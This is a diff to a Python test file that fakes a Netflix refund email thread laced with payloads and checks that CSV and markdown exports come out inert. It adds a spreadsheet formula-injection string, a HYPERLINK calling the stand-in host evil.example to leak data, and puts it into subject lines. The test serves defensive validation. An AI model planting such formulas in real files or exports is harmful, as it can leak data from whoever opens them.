@@ -433,19 +433,22 @@ PAYLOADS = {
 }
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?leak","Open")'  # a spreadsheet would evaluate it
+
+
 def _carrier_mail() -> dict[str, bytes]:
     """A support exchange with a *real* provider whose text carries script payloads, so they reach
     the journal, the dossier and the exports (a spoofed sender would be kept out of those)."""
     p1, p2, p3, p4 = PAYLOADS.values()
     out = (
         f"From: Alice <alice@example.org>\nTo: Netflix Support <support@netflix.com>\n"
-        f"Subject: Remboursement {p1} - Ticket 4242\nDate: Mon, 02 Mar 2026 09:00:00 +0000\n"
+        f"Subject: {FORMULA} Remboursement {p1} - Ticket 4242\nDate: Mon, 02 Mar 2026 09:00:00 +0000\n"
         f"Message-ID: <carrier-out@example.org>\nContent-Type: text/plain; charset=utf-8\n\n"
         f'Bonjour, je demande le remboursement de 13,49 \u20ac. {p2}\n=HYPERLINK("http://evil.example")\n{p4}\n'
     )
     reply = (
         f'From: "Julie {p3}" <support@netflix.com>\nTo: alice@example.org\n'
-        f"Subject: Re: Remboursement {p1} - Ticket 4242\nDate: Tue, 03 Mar 2026 09:00:00 +0000\n"
+        f"Subject: Re: {FORMULA} Remboursement {p1} - Ticket 4242\nDate: Tue, 03 Mar 2026 09:00:00 +0000\n"
         f"Message-ID: <carrier-in@netflix.com>\nIn-Reply-To: <carrier-out@example.org>\n"
         f"Content-Type: text/plain; charset=utf-8\n\n"
         f"Bonjour Alice, nous vous rembourserons 13,49 \u20ac sous 5 jours. {p2}\nJulie {p3}\n"
@@ -590,6 +593,9 @@ def test_dossier_and_exports_inert(shown: tuple[Path, Path]) -> None:
     assert "alert('X1')" in markdown and re.search(r"(?<!\\)<(?!https?://)", markdown) is None
     rows = list(csv.reader(io.StringIO((out / "evidence.csv").read_text(encoding="utf-8"))))
     assert any(PAYLOADS["X1"] in cell for row in rows for cell in row)
+    assert any(cell.startswith("'" + FORMULA) for row in rows for cell in row), (
+        "the formula never reached a cell"
+    )
     for row in rows[1:]:
         for cell in row:
             assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
